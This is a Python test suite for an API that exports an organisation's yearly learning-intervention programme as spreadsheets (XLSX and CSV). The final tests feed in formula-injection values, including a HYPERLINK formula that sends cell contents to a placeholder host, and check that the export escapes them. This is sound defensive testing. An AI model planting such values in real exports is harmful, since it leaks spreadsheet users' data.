"""The execution programme of a year as XLSX and CSV, read back with real readers."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.interventions.factories import make_intervention

pytestmark = pytest.mark.anyio
URL = "/api/v1/interventions/export"


@pytest.fixture
def programme(db, org, other_org):
    make_intervention(db, org, title="Hostmanship-training", years=(2014, 2015), status="new",
                      category="strategic_theme", goal="Gastvrij zijn", content="Twee dagdelen",
                      target_group="Medewerkers met klantcontact", learning_form="training",
                      funding_stream="strategic", cost_fixed="1500.00", cost_per_participant="125.50",
                      expected_participants=40)
    make_intervention(db, org, title="Zaakgericht werken", years=(2014,), status="partly_existing",
                      category="strategic_theme", cost_fixed="250.25")
    make_intervention(db, org, title="Intervisie", years=(2014,), status="existing",
                      category="management_development", learning_form="intervision", funding_stream="functional")
    make_intervention(db, org, title="Alleen in 2016", years=(2016,), category="basic_skill")
    make_intervention(db, other_org, title="Van een ander", years=(2014,), category="strategic_theme")


HEADERS = ["Leerinterventie", "Status", "Doel", "Inhoud", "Doelgroep", "Organisatieontwikkeling",
           "Doel in het plan", "Leervorm", "Startdatum", "Periode", "Frequentie", "Leeruren per deelnemer",
           "Deelnemers", "Budgetstroom", "Opmerkingen", "Kosten (€)"]


async def test_xlsx_has_a_summary_and_a_sheet_per_category_with_the_stored_values(api_as, programme):
    r = await api_as("viewer").get(URL, params={"year": 2014, "format": "xlsx"})
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["content-disposition"] == 'attachment; filename="uitvoeringsprogramma-2014.xlsx"'
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["Overzicht", "Strategische thema's", "Management development"]
    themes = book["Strategische thema's"]
    rows = [[cell.value for cell in row] for row in themes.iter_rows()]
    assert rows[0] == HEADERS
    assert rows[1][:5] == ["Hostmanship-training", "Nieuw", "Gastvrij zijn", "Twee dagdelen",
                           "Medewerkers met klantcontact"]
    assert rows[1][7] == "Training" and rows[1][12:14] == [40, "Strategisch"] and rows[1][15] == 6520
    assert rows[2][:2] == ["Zaakgericht werken", "Deels bestaand"] and rows[2][15] == 250.25
    assert rows[3][0] == "Totaal" and rows[3][15] == "=SUM(P2:P3)"  # a formula over the lines above
    assert sum(row[15] for row in rows[1:3]) == pytest.approx(6770.25)
    assert len(rows) == 4  # the 2016 intervention and the other organisation's are not in it
    management = [[c.value for c in row] for row in book["Management development"].iter_rows()]
    assert management[1][:2] == ["Intervisie", "Bestaand"] and management[1][7] == "Intervisie"
    assert management[1][13] == "Functioneel"


async def test_xlsx_is_formatted_to_print(api_as, programme):
    book = load_workbook(io.BytesIO((await api_as("viewer").get(URL, params={"year": 2014})).content))
    sheet = book.worksheets[1]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet["C2"].alignment.wrap_text is True and sheet.column_dimensions["C"].width > 30
    assert sheet.freeze_panes == "A2"


async def test_csv_has_the_same_columns_and_values(api_as, programme):
    r = await api_as("viewer").get(URL, params={"year": 2014, "format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == 'attachment; filename="uitvoeringsprogramma-2014.csv"'
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Categorie", *HEADERS]
    assert rows[1] == ["Strategische thema's", "Hostmanship-training", "Nieuw", "Gastvrij zijn", "Twee dagdelen",
                       "Medewerkers met klantcontact", "", "", "Training", "", "", "", "", "40", "Strategisch", "",
                       "6520,00"]
    assert [row[1] for row in rows[1:]] == ["Hostmanship-training", "Zaakgericht werken", "Intervisie"]


async def test_exported_csv_imports_back(api_as, db, org, programme):
    exported = (await api_as("viewer").get(URL, params={"year": 2014, "format": "csv"})).content
    r = await api_as("editor").post("/api/v1/interventions/import", files={"file": ("p.csv", exported, "text/csv")},
                                    params={"dryRun": "true"})
    assert r.status_code == 200 and r.json()["valid"] == 3, r.text
    assert r.json()["rows"][0]["cells"]["category"] == "Strategische thema's"


async def test_an_empty_year_is_a_workbook_with_only_the_headers(api_as, programme):
    book = load_workbook(io.BytesIO((await api_as("viewer").get(URL, params={"year": 2030})).content))
    assert book.sheetnames == ["Overzicht", "Organisatieontwikkeling"]
    assert book.worksheets[1]["A1"].value == "Leerinterventie"


async def test_year_defaults_to_this_year_and_is_bounded(api_as):
    viewer = api_as("viewer")
    r = await viewer.get(URL)
    assert r.status_code == 200 and f"uitvoeringsprogramma-{date.today().year}.xlsx" in r.headers["content-disposition"]
    assert (await viewer.get(URL, params={"year": 3000})).status_code == 400
    assert (await viewer.get(URL, params={"year": 2014, "format": "pdf"})).status_code == 400


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"k")'


@pytest.fixture
def hostile(db, org):
    make_intervention(db, org, title=HYPERLINK, years=(2014,), goal="@SUM(A1)", content="-2+3",
                      target_group="+31 6", category="basic_skill", cost_fixed="12.50")


async def test_xlsx_writes_user_text_as_strings_never_formulas(api_as, hostile):
    book = load_workbook(io.BytesIO((await api_as("viewer").get(URL, params={"year": 2014})).content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas and all(value.startswith("=SUM(") for value in formulas)  # only the totals
    row = [cell.value for cell in book.worksheets[1][2]]
    assert row[:5] == ["'" + HYPERLINK, "Nieuw", "'@SUM(A1)", "'-2+3", "'+31 6"]
    assert row[15] == 12.5 and book.worksheets[1][2][15].data_type == "n"


async def test_csv_quotes_user_text_that_would_run_as_a_formula(api_as, hostile):
    r = await api_as("viewer").get(URL, params={"year": 2014, "format": "csv"})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    assert rows[1][1] == "'" + HYPERLINK and rows[1][16] == "12,50"
